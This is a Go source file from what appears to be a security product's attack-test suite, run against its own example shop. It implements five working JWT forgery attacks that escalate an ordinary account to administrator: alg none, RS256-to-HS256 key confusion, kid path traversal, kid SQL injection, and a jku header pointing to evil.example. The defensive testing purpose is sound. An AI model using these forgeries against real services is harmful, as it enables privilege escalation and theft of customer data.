package attacks

import (
	"context"
	"crypto"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"math/big"
	"net/http"
	"strings"

	"github.com/gatehousehq/gatehouse/examples/shop"
)

// tokens are forged JWTs: each attacker has one of an ordinary account, makes it an
// administrator's, and has the shop verify it by what the attacker chose.
func tokens() []Case {
	const class = "Forged tokens"
	stops := []string{"identity/source", "application/access"}
	return []Case{
		{ID: "jwt-none", Title: "A token that says that it is not signed (alg: none)", Class: class, Stops: stops,
			Try: `a token of {base}/api/token with {"alg":"none"}, roles admin and no signature, for {base}/api/staff/customers`, Run: forgedBy(unsigned)},
		{ID: "jwt-confusion", Title: "A token signed with the public key as a secret (RS256 to HS256)", Class: class, Stops: stops,
			Try: `the same with {"alg":"HS256"}, by the key of {base}/api/keys as PEM`, Run: forgedBy(confused)},
		{ID: "jwt-kid-path", Title: "A token whose key is a file that everybody knows (kid)", Class: class, Stops: stops,
			Try: `the same with {"kid":"../public/pictures/lamp.svg"}, by the bytes of {base}/pictures/lamp.svg`, Run: forgedBy(fileAsKey)},
		{ID: "jwt-kid-sql", Title: "A token whose key is what an injected statement says (kid)", Class: class, Stops: stops,
			Try: `the same with {"kid":"x' UNION SELECT 'sesame' --"}, by sesame; {base}/api/staff/customers`, Run: forgedBy(statementAsKey)},
		{ID: "jwt-jku", Title: "A token that brings the address of its key (jku)", Class: class, Stops: stops,
			Try: `the same by a key of one's own, with {"jku":"http://evil.example/?says=…"} for it; {base}/api/staff/customers`, Run: forgedBy(ownKey)},
	}
}

type jwtHeader map[string]string

// A forger makes the signature of a token, and says how it is to be verified.
type forger func(ctx context.Context, v *visitor) (jwtHeader, func(text string) ([]byte, error), error)

func unsigned(context.Context, *visitor) (jwtHeader, func(string) ([]byte, error), error) {
	return jwtHeader{"alg": "none"}, func(string) ([]byte, error) { return nil, nil }, nil
}

func withSecret(secret []byte) func(string) ([]byte, error) {
	return func(text string) ([]byte, error) {
		mac := hmac.New(sha256.New, secret)
		mac.Write([]byte(text))
		return mac.Sum(nil), nil
	}
}

type publicKeys struct {
	Keys []struct {
		ID string `json:"kid"`
		N  string `json:"n"`
		E  string `json:"e"`
	} `json:"keys"`
}

func confused(ctx context.Context, v *visitor) (jwtHeader, func(string) ([]byte, error), error) {
	r, err := v.get(ctx, "/api/keys")
	if err != nil {
		return nil, nil, preparing(err)
	}
	var set publicKeys
	if err := r.json(&set); err != nil {
		return nil, nil, err
	}
	if len(set.Keys) == 0 {
		return nil, nil, errors.New("preparing: the shop shows no key")
	}
	n, err := base64.RawURLEncoding.DecodeString(set.Keys[0].N)
	if err != nil {
		return nil, nil, err
	}
	e, err := base64.RawURLEncoding.DecodeString(set.Keys[0].E)
	if err != nil {
		return nil, nil, err
	}
	key, err := x509.MarshalPKIXPublicKey(&rsa.PublicKey{N: new(big.Int).SetBytes(n), E: int(new(big.Int).SetBytes(e).Int64())})
	text := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: key})
	return jwtHeader{"alg": "HS256", "kid": set.Keys[0].ID}, withSecret(text), err
}

func fileAsKey(ctx context.Context, v *visitor) (jwtHeader, func(string) ([]byte, error), error) {
	r, err := v.get(ctx, "/pictures/lamp.svg")
	if err != nil {
		return nil, nil, preparing(err)
	}
	return jwtHeader{"alg": "HS256", "kid": "../public/pictures/lamp.svg"}, withSecret(r.body), nil
}

func statementAsKey(context.Context, *visitor) (jwtHeader, func(string) ([]byte, error), error) {
	return jwtHeader{"alg": "HS256", "kid": "x' UNION SELECT 'sesame' --"}, withSecret([]byte("sesame")), nil
}

func ownKey(context.Context, *visitor) (jwtHeader, func(string) ([]byte, error), error) {
	key, err := shop.NewTokenKey()
	if err != nil {
		return nil, nil, err
	}
	set, err := shop.KeySet(&key.PublicKey)
	return jwtHeader{"alg": "RS256", "kid": shop.TokenKeyID, "jku": "http://evil.example/?" + query("says", string(set))}, func(text string) ([]byte, error) {
		sum := sha256.Sum256([]byte(text))
		return rsa.SignPKCS1v15(rand.Reader, key, crypto.SHA256, sum[:])
	}, err
}

// token signs in as a program, and gives the token.
func (v *visitor) token(ctx context.Context, email, password string) (string, error) {
	var in struct {
		Token string `json:"access_token"`
	}
	r, err := v.sendJSON(ctx, http.MethodPost, "/api/token", map[string]string{"email": email, "password": password})
	if err != nil {
		return "", err
	}
	if err := r.json(&in); err != nil {
		return "", err
	}
	if in.Token == "" {
		return "", fmt.Errorf("signing in for a token gave %d and none", r.status)
	}
	return in.Token, nil
}

// customers asks for the list of customers with a token.
func (v *visitor) customers(ctx context.Context, token string) (*reply, error) {
	return v.send(ctx, ask{method: http.MethodGet, path: "/api/staff/customers", header: map[string]string{"Authorization": "Bearer " + token, "Accept": "application/json"}})
}

func forgedBy(forge forger) func(context.Context, *Target) (Result, error) {
	return func(ctx context.Context, t *Target) (Result, error) {
		account, err := signUp(ctx, t, "a token, please")
		if err != nil {
			return Result{}, err
		}
		attacker := newProgram(t)
		good, err := attacker.token(ctx, account.email, account.password)
		if err != nil {
			return Result{}, preparing(err)
		}
		header, sign, err := forge(ctx, attacker)
		if err != nil {
			return Result{}, err
		}
		forged, err := reforge(good, header, sign)
		if err != nil {
			return Result{}, err
		}
		r, err := attacker.customers(ctx, forged)
		if err != nil {
			return Result{}, err
		}
		return judged(r, r.has(owner().Email), "the shop's customers were listed", "the shop's customers were not listed")
	}
}

// reforge is the good token with the admin's role, under another header.
func reforge(good string, header jwtHeader, sign func(text string) ([]byte, error)) (string, error) {
	parts := strings.Split(good, ".")
	if len(parts) != 3 {
		return "", errors.New("preparing: the shop's token is no JWT")
	}
	raw, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		return "", err
	}
	var claims map[string]any
	if err := json.Unmarshal(raw, &claims); err != nil {
		return "", err
	}
	claims["roles"] = []string{"admin"}
	if raw, err = json.Marshal(claims); err != nil {
		return "", err
	}
	head, err := json.Marshal(header)
	if err != nil {
		return "", err
	}
	text := base64.RawURLEncoding.EncodeToString(head) + "." + base64.RawURLEncoding.EncodeToString(raw)
	signature, err := sign(text)
	return text + "." + base64.RawURLEncoding.EncodeToString(signature), err
}

// listsCustomers is the owner's program, with a token that is good.
func listsCustomers(ctx context.Context, t *Target) (Result, error) {
	program := newProgram(t)
	token, err := program.token(ctx, owner().Email, owner().Password)
	if err != nil {
		return Result{}, err
	}
	r, err := program.customers(ctx, token)
	if err != nil {
		return Result{}, err
	}
	return r.expect(http.StatusOK, `"email":"marta@example.com"`)
}

// browsesWithToken reads the catalogue with a customer's token, which is good there
// as well.
func browsesWithToken(ctx context.Context, t *Target) (Result, error) {
	account, err := signUp(ctx, t, "only looking")
	if err != nil {
		return Result{}, err
	}
	program := newProgram(t)
	token, err := program.token(ctx, account.email, account.password)
	if err != nil {
		return Result{}, err
	}
	r, err := program.send(ctx, ask{method: http.MethodGet, path: "/api/products?category=Garden", header: map[string]string{"Authorization": "Bearer " + token}})
	if err != nil {
		return Result{}, err
	}
	return r.expect(http.StatusOK, `"price_cents"`)
}
